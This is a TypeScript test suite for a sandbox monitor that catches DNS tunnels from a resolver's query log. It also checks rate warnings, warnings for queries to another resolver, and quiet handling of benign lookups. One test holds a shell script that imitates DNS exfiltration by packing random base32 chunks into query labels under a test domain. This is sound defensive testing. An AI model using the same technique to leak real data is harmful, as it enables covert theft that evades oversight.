/**
 * DNS tunnels seen by name: real sandboxes ask the bridge's own resolver
 * (dnsmasq of coibr0, which in the dead-end network answers without
 * forwarding: nothing leaves the machine), a guard of our own (private socket
 * and scope, limited to this run's prefix) reads the names from dnsmasq's
 * query log on the host, and judges them.
 *
 * The tunnel here is the one the kernel's length rules cannot see: 20
 * character base32 labels under a short test domain, a dozen a minute. What
 * is asserted is what a person sees: the HIGH pushed on the `threat` topic,
 * the container frozen, the audit line with the names as evidence. Also: a
 * sandbox's `dns_query_threshold` gives a WARNING at its rate, a query to
 * another resolver (a test host) a WARNING, and ordinary lookups with git work
 * stay at INFO.
 */
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { queryLogOf } from '../../helper/guard/monitor/dns-log';
import { readFreezer } from '../../helper/host/freezer';
import type { IncusClient } from '../../helper/incus/client';
import { DEAD_END_HOSTS, SETUP_NAMES } from '../../helper/setup/names';
import { monitorHarness } from './monitor-harness';
import { requireIncus, sleep } from './support';

const h = monitorHarness('td');
const { root, waitFor, threatsOf } = h;
const auditRecords = (name: string) => h.auditLines(name).records;
let c: IncusClient;
let resolver = '';
const dig = (name: string, type = 'A') => `dig +tries=1 +time=1 @${resolver} -t ${type} "${name}" > /dev/null`;

/** The default policy, and one whose dns_query_threshold is low enough for a test to reach. */
const homes = { main: path.join(root, 'home'), rate: path.join(root, 'home-rate') };
const config = (nft = '') => `[container]\nimage = "coi"\n\n[tool]\nname = "shell"\n\n[monitoring]\nenabled = true\n${nft ? `\n[monitoring.nft]\n${nft}\n` : ''}`;

/** Runs a script of the workspace in the agent's shell and waits for its exit code. */
async function runScript(name: string, ws: string, file: string, body: string, timeoutMs = 60_000): Promise<string> {
  writeFileSync(path.join(ws, file), body);
  const done = path.join(ws, `${file}.exit`);
  await h.type(c, name, `sh /workspace/${file} > /workspace/${file}.log 2>&1; echo $? > /workspace/${file}.exit`);
  return waitFor(`${file} to finish`, () => (existsSync(done) ? readFileSync(done, 'utf8').trim() || undefined : undefined), timeoutMs, 200);
}

before(async () => {
  c = await requireIncus();
  // The feed exists only where coi setup made the bridge's dnsmasq log its queries: a missing piece is a failure.
  const bridge = await c.get<{ config: Record<string, string> }>(c.url(`/1.0/networks/${SETUP_NAMES.bridge}`));
  assert.ok(queryLogOf(bridge.config['raw.dnsmasq']), `${SETUP_NAMES.bridge} does not log DNS queries (run coi setup): ${JSON.stringify(bridge.config['raw.dnsmasq'])}`);
  mkdirSync(path.join(homes.main, '.coi'), { recursive: true });
  writeFileSync(path.join(homes.main, '.coi', 'config.toml'), config());
  mkdirSync(path.join(homes.rate, '.coi'), { recursive: true });
  writeFileSync(path.join(homes.rate, '.coi', 'config.toml'), config('dns_query_threshold = 20'));
  await h.connect();
});

after(() => h.close(c, '/tmp/coi-monitor-dns-test-last'));

describe('DNS tunnels by name, from the bridge resolver\'s log', () => {
  const names: Record<string, string> = {};
  const ws = (k: string) => path.join(root, `ws-${k}`);

  test('sandboxes with monitoring on are watched, and the bridge\'s resolver answers them', async () => {
    const benignWs = ws('benign');
    mkdirSync(benignWs, { recursive: true });
    const git = (...args: string[]) => assert.equal(spawnSync('git', ['-C', benignWs, '-c', 'user.email=a@example.invalid', '-c', 'user.name=test', ...args]).status, 0);
    writeFileSync(path.join(benignWs, 'README'), 'hello\n');
    git('init', '-q', '-b', 'main');
    git('add', '-A');
    git('commit', '-qm', 'initial');
    const list = [['benign', homes.main], ['tunnel', homes.main], ['rate', homes.rate]] as const;
    const launched = await Promise.all(list.map(([k, home]) => h.launch(ws(k), home)));
    list.forEach(([k], i) => (names[k] = launched[i]!));
    for (const n of Object.values(names)) await waitFor(`${n} to be watched`, () => threatsOf(n).find((r) => r.title === 'Monitoring started'));
    // Queries go to the bridge's resolver by address (dig @…), not through /etc/resolv.conf: on this shared
    // bridge another test's DHCP server may hand out a different resolver. What a tunnel tool does anyway.
    const bridge = await c.get<{ config: Record<string, string> }>(c.url(`/1.0/networks/${SETUP_NAMES.bridge}`));
    resolver = (bridge.config['ipv4.address'] ?? '').split('/')[0]!;
    assert.match(resolver, /^\d+\.\d+\.\d+\.\d+$/);
    const probe = await c.exec(names.tunnel!, ['dig', '+tries=1', '+time=2', `@${resolver}`, 'probe.coi-test.example']);
    assert.match(probe.stdout, /status: (REFUSED|NXDOMAIN|NOERROR|SERVFAIL)/, `the bridge's resolver answers: ${probe.stdout}${probe.stderr}`);
  });

  test('ordinary lookups (npm registry, git hosts, CDN hashes, AWS hosts) with git work stay at INFO; a sandbox\'s dns_query_threshold gives a WARNING at its rate, another resolver a WARNING', async () => {
    const benign = [
      'registry.npmjs.org', 'github.com', 'codeload.github.com', 'objects.githubusercontent.com', 'd2c8v52ll5s99u.cloudfront.net',
      'd1a2b3c4.cloudfront.net', 'ec2-54-12-34-56.compute-1.amazonaws.com', 's3.us-east-1.amazonaws.com', 'pypi.org', 'deb.debian.org',
    ];
    const exit = await runScript(
      names.benign!,
      ws('benign'),
      'benign.sh',
      [
        'cd /workspace',
        'export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=a@example.invalid GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=a@example.invalid',
        // Each name a few times, as a session's tools would (A, then AAAA).
        `for h in ${benign.join(' ')}; do ${dig('$h')}; ${dig('$h', 'AAAA')}; done`,
        'for round in 1 2 3; do',
        '  echo "round $round" >> CHANGES && git add -A && git commit -qm "round $round" && git log --oneline > /dev/null',
        'done',
        'echo ok',
      ].join('\n'),
    );
    assert.equal(exit, '0', readFileSync(path.join(ws('benign'), 'benign.sh.log'), 'utf8'));

    // After the benign lookups, in the same log: once the guard has read these, it has read those.
    const before = Date.now();
    const rate = await runScript(names.rate!, ws('rate'), 'rate.sh', `for i in $(seq 1 30); do ${dig('registry.npmjs.org')}; done\necho ok\n`);
    assert.equal(rate, '0');
    // The kernel's own rate note (120 packets a minute, names unknown) may come too: the one asserted here names the domain.
    const w = await waitFor('a WARNING for the query rate', () =>
      threatsOf(names.rate!).find((r) => r.category === 'dns_tunnel' && (r.evidence as { dns?: { domain?: string } }).dns?.domain && Date.parse(r.timestamp) >= before - 1_000),
    );
    assert.equal(w.level, 'warning');
    assert.equal(w.title, 'High DNS query rate');
    assert.equal(w.action, 'alerted');
    assert.match(w.description, /queries per minute \(limit 20\)/);
    assert.equal((w.evidence as { dns?: { domain?: string } }).dns?.domain, 'npmjs.org');
    assert.equal(readFreezer(names.rate!), 'thawed', 'a WARNING does not freeze');

    // A resolver other than the sandbox's own (a test host with no DNS server: the query goes unanswered):
    // its names never reach the log the monitor reads, so the firewall's note of the packet says so.
    await runScript(names.rate!, ws('rate'), 'other.sh', `dig +tries=1 +time=1 @${DEAD_END_HOSTS.internet} elsewhere.example > /dev/null; echo done\n`);
    const other = await waitFor('a WARNING for DNS to another resolver', () => threatsOf(names.rate!).find((r) => r.evidence.rule === 'dns-tunnel/other-resolver'));
    assert.equal(other.level, 'warning');
    assert.equal(other.evidence.network?.remote, DEAD_END_HOSTS.internet);

    await sleep(1_000); // a few polls of the benign sandbox's loop after its names were read
    const above = threatsOf(names.benign!).filter((r) => r.level !== 'info');
    assert.deepEqual(above.map((r) => `${r.level} ${r.title}: ${r.description}`), [], 'nothing above INFO');
    assert.equal(readFreezer(names.benign!), 'thawed');
  });

  test('a tunnel of short random labels (20 base32 characters, a dozen queries) is HIGH, frozen, with the names in the audit line', async () => {
    const name = names.tunnel!;
    const before = Date.now();
    writeFileSync(
      path.join(ws('tunnel'), 'tunnel.sh'),
      [
        // Each label a chunk of "data"; the list of sent names is the test's evidence to compare with.
        'for i in $(seq 1 12); do',
        '  n="$(head -c 64 /dev/urandom | base32 -w0 | tr -d = | tr A-Z a-z | cut -c1-20).$i.t.coi-test.example"',
        '  echo "$n" >> /workspace/sent.txt',
        `  ${dig('$n')}`,
        '  sleep 0.3',
        'done',
        'touch /workspace/tunnel.done',
      ].join('\n'),
    );
    await h.type(c, name, 'sh /workspace/tunnel.sh');
    const high = await waitFor('a HIGH dns_tunnel threat', () => threatsOf(name).find((r) => r.category === 'dns_tunnel' && r.level === 'high' && Date.parse(r.timestamp) >= before - 1_000));
    assert.equal(high.evidence.rule, 'dns-tunnel/high-entropy', `caught by the names, not by a length rule: ${high.description}`);
    assert.equal(high.action, 'paused');
    assert.ok(['frozen', 'freezing'].includes(readFreezer(name) ?? ''), 'the cgroup is frozen');
    const sent = readFileSync(path.join(ws('tunnel'), 'sent.txt'), 'utf8').split('\n').filter(Boolean);
    const dns = (high.evidence as { dns?: { domain?: string; examples?: string[] } }).dns;
    assert.equal(dns?.domain, 'coi-test.example');
    assert.ok((dns?.examples ?? []).length >= 3, JSON.stringify(dns));
    for (const e of dns?.examples ?? []) assert.ok(sent.includes(e), `${e} is one of the names the sandbox sent`);
    const line = await waitFor('the HIGH in the audit log', () => auditRecords(name).find((r) => r.id === high.id));
    assert.deepEqual((line.evidence as { dns?: { examples?: string[] } }).dns?.examples, dns?.examples);
    const inst = await waitFor('Incus to report it frozen', async () => ((await c.getInstance(name)).status === 'Frozen' ? true : undefined));
    assert.ok(inst);
  });
});
